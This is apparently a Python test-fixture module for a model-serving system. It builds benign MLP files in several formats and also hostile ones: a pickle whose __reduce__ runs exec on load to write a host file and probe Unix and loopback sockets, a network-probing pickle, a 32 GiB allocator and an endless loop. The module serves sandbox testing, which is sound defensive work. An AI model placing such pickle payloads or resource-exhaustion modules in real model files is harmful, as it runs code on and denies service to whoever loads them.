"""Real model files for the tests, made with torch/onnx at test time (nothing binary is committed).

Good models: a small MLP trained on a synthetic binary task, saved as TorchScript, safetensors
(architecture mlp/v1), a torch state_dict and ONNX. Hostile ones: a pickle whose payload writes a
host file and phones home, a TorchScript model that allocates too much, one that never returns.
"""

from __future__ import annotations

import io
import pickle

import numpy as np
import onnx
import pyarrow as pa
import pyarrow.parquet as pq
import torch
from onnx import TensorProto, helper, numpy_helper
from safetensors.torch import save as save_safetensors

from libs.architectures.registry import MLP

FEATURES = 12
FEATURE_NAMES = [f"f{i}" for i in range(FEATURES)]
WEIGHTS = np.linspace(-1.5, 1.5, FEATURES)


def dataset(rows: int, seed: int, shift: float = 0.0) -> tuple[np.ndarray, np.ndarray]:
    """Features [rows, 12] and 0/1 labels from a fixed noisy linear rule."""
    rng = np.random.default_rng(seed)
    x = rng.normal(loc=shift, size=(rows, FEATURES)).astype(np.float32)
    logits = x @ WEIGHTS + rng.normal(scale=1.0, size=rows)
    return x, (logits > 0).astype(np.int64)


def train_mlp(epochs: int = 150, seed: int = 0, hidden: int = 16, noise_labels: float = 0.0) -> MLP:
    """An mlp/v1 trained on the task (logit output); `noise_labels` flips that share of labels."""
    torch.manual_seed(seed)
    x, y = dataset(2000, seed=100 + seed)
    if noise_labels:
        flip = np.random.default_rng(seed).random(len(y)) < noise_labels
        y = np.where(flip, 1 - y, y)
    model = MLP([FEATURES, hidden, 1])
    optimizer = torch.optim.Adam(model.parameters(), lr=0.05)
    xt, yt = torch.from_numpy(x), torch.from_numpy(y.astype(np.float32)).reshape(-1, 1)
    for _ in range(epochs):
        optimizer.zero_grad()
        loss = torch.nn.functional.binary_cross_entropy_with_logits(model(xt), yt)
        loss.backward()
        optimizer.step()
    return model.eval()


class Probabilities(torch.nn.Module):
    def __init__(self, inner: torch.nn.Module) -> None:
        super().__init__()
        self.inner = inner

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.sigmoid(self.inner(x))


def torchscript(module: torch.nn.Module) -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(module), buffer)
    return buffer.getvalue()


def safetensors_bytes(model: torch.nn.Module) -> bytes:
    return save_safetensors({k: v.contiguous() for k, v in model.state_dict().items()})


def state_dict_bytes(model: torch.nn.Module) -> bytes:
    buffer = io.BytesIO()
    torch.save(model.state_dict(), buffer)
    return buffer.getvalue()


def onnx_bytes(model: MLP, input_name: str = "x", output_name: str = "p") -> bytes:
    """The MLP as an ONNX graph built by hand (Gemm/Relu/Sigmoid), no exporter needed."""
    nodes, inits = [], []
    current = input_name
    layers = list(model.layers)
    for i, layer in enumerate(layers):
        assert isinstance(layer, torch.nn.Linear)
        w, b = f"w{i}", f"b{i}"
        inits += [
            numpy_helper.from_array(layer.weight.detach().numpy().astype(np.float32), w),
            numpy_helper.from_array(layer.bias.detach().numpy().astype(np.float32), b),
        ]
        out = f"h{i}"
        nodes.append(helper.make_node("Gemm", [current, w, b], [out], transB=1))
        current = out
        if i < len(layers) - 1:
            nodes.append(helper.make_node("Relu", [current], [f"r{i}"]))
            current = f"r{i}"
    nodes.append(helper.make_node("Sigmoid", [current], [output_name]))
    graph = helper.make_graph(
        nodes,
        "mlp",
        [helper.make_tensor_value_info(input_name, TensorProto.FLOAT, ["batch", FEATURES])],
        [helper.make_tensor_value_info(output_name, TensorProto.FLOAT, ["batch", 1])],
        initializer=inits,
    )
    proto = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
    onnx.checker.check_model(proto)
    return proto.SerializeToString()


def golden_parquet(rows: int = 400, seed: int = 7, shift: float = 0.0) -> bytes:
    x, y = dataset(rows, seed=seed, shift=shift)
    columns = {name: x[:, i] for i, name in enumerate(FEATURE_NAMES)}
    columns["label"] = y
    buffer = io.BytesIO()
    pq.write_table(pa.table(columns), buffer)
    return buffer.getvalue()


def baseline_features(rows: int = 2000, seed: int = 100, bins: int = 10) -> list[dict]:
    """Per-feature statistics of the training data, in the shape of registry FeatureStatistics."""
    x, _ = dataset(rows, seed=seed)
    out = []
    for i, name in enumerate(FEATURE_NAMES):
        values = x[:, i].astype(np.float64)
        counts, edges = np.histogram(values, bins=bins)
        out.append(
            {
                "name": name,
                "mean": float(values.mean()),
                "stddev": float(values.std()),
                "min": float(values.min()),
                "max": float(values.max()),
                "edges": [float(e) for e in edges],
                "counts": [int(c) for c in counts],
            }
        )
    return out


class Payload:
    """Unpickling this runs `code` (what a malicious model does)."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def escape_code(marker: str, tcp_port: int, unix_path: str, abstract_name: str) -> str:
    """Payload code that writes a host file, then tries a host Unix socket, an abstract socket and
    TCP to the host's loopback, recording in the file what it managed."""
    return f"""
import socket
with open({marker!r}, "w") as f:
    f.write("payload ran\\n")
for family, address in ((socket.AF_UNIX, {unix_path!r}), (socket.AF_UNIX, "\\0" + {abstract_name!r})):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        s.sendall(b"escaped")
        open({marker!r}, "a").write("unix connected\\n")
    except OSError as err:
        open({marker!r}, "a").write(f"unix refused {{err}}\\n")
s = socket.create_connection(("127.0.0.1", {tcp_port}), timeout=2)
s.sendall(b"escaped")
"""


def escape_pickle(marker: str, tcp_port: int, unix_path: str, abstract_name: str) -> bytes:
    """A raw pickle 'model' carrying the escape payload."""
    return pickle.dumps({"model": Payload(escape_code(marker, tcp_port, unix_path, abstract_name))})


def network_pickle(tcp_port: int) -> bytes:
    """A 'model' that only tries to reach the network."""
    return pickle.dumps(Payload(f"import socket; socket.create_connection(('127.0.0.1', {tcp_port}), timeout=2)"))


class MemoryHog(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        waste = torch.ones([1 << 33], dtype=torch.float32)  # 32 GiB
        return torch.sigmoid(x.sum(dim=1, keepdim=True)) + waste[0] * 0


class NeverReturns(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        i = 0
        while i >= 0:
            x = x * 1.0
            i = i + 1
        return x
